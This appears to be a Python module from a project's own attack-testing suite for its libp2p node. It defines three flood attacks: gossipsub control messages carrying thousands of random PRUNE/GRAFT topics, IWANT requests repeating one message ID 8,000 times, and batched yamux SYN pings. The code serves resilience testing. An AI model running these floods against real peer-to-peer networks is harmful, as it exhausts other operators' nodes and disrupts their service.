"""Attacks by what peers say to each other beneath gossip and requests: control messages and pings."""

from __future__ import annotations

import secrets
from typing import Any

import trio
from libp2p.pubsub.pb import rpc_pb2
from libp2p.stream_muxer.yamux.yamux import FLAG_SYN, TYPE_PING

from node.p2p.host import P2PHost
from node.p2p.muxer import _HEADER
from protocol.names import OFFERS_TOPIC
from siege.attack import Ground, Surface, attack
from siege.forged import real_offers
from siege.gossip import say_all, signed, talkers

SAID = ("said",)
TOPICS = 5_000
WISHES = 8_000
PINGS = 100
ACT_S = 10.0
"""For what is said to be taken: whoever is read no further waits."""


async def _say(ground: Ground, host: P2PHost, make: Any) -> None:
    """`ground.count` RPCs to the node, as fast as it reads them."""
    pubsub = host._backend.pubsub
    (node,) = (peer for peer in pubsub.peers if str(peer) == ground.target.nodes[0].peer.rpartition("/")[2])

    async def write() -> bool:
        with trio.move_on_after(ACT_S):
            return bool(await pubsub.write_msg(pubsub.peers[node], make()))
        return False

    ground.at_full()
    for _ in range(ground.count):
        if ground.stop.is_set() or not await host._call(write):
            break
        ground.tally["said"] += 1
    await ground.stop.wait()


@attack(Surface.LIBP2P, short=20, long=2_000, came=SAID)
async def gossip_of_topics_without_end(ground: Ground) -> None:
    """RPCs that leave thousands of topics which nobody follows, and enter others."""

    def make() -> Any:
        rpc = rpc_pb2.RPC()
        for _ in range(TOPICS):
            rpc.control.prune.add(topicID=secrets.token_hex(8), backoff=2**40)
            rpc.control.graft.add(topicID=secrets.token_hex(8))
        return rpc

    async with talkers(ground.target, 1) as (host,):
        await _say(ground, host, make)


@attack(Surface.LIBP2P, short=0, long=2_000, came=SAID)
async def gossip_wishes_without_end(ground: Ground) -> None:
    """RPCs that wish for one and the same message thousands of times."""
    async with talkers(ground.target, 1) as (host,):
        await host.subscribe(OFFERS_TOPIC, lambda data: data)
        (_, sealed), *_ = await real_offers(host, ground.target)
        message = signed(host, OFFERS_TOPIC, 0, sealed)
        await say_all(host, [message])
        name = host._backend.pubsub._msg_id_constructor(message).hex().encode()
        rpc = rpc_pb2.RPC()
        rpc.control.iwant.add(messageIDs=[name] * WISHES)
        await _say(ground, host, lambda: rpc)


@attack(Surface.LIBP2P, short=0, long=10_000, came=SAID)
async def gossip_pings(ground: Ground) -> None:
    """Pings of the muxer, a hundred at once."""
    async with talkers(ground.target, 1) as (host,):
        backend, pings = host._backend, _HEADER.pack(0, TYPE_PING, FLAG_SYN, 0, 1) * PINGS
        (node,) = (each for each in backend.host.get_connected_peers()
                   if str(each) == ground.target.nodes[0].peer.rpartition("/")[2])  # fmt: skip
        connection = backend.host.get_network().get_connections(node)[0].muxed_conn

        async def write() -> bool:
            with trio.move_on_after(ACT_S) as patience:
                await connection.secured_conn.write(pings)
            return not patience.cancelled_caught

        ground.at_full()
        for _ in range(ground.count):
            if ground.stop.is_set() or not await host._call(write):
                break
            ground.tally["said"] += PINGS
        await ground.stop.wait()
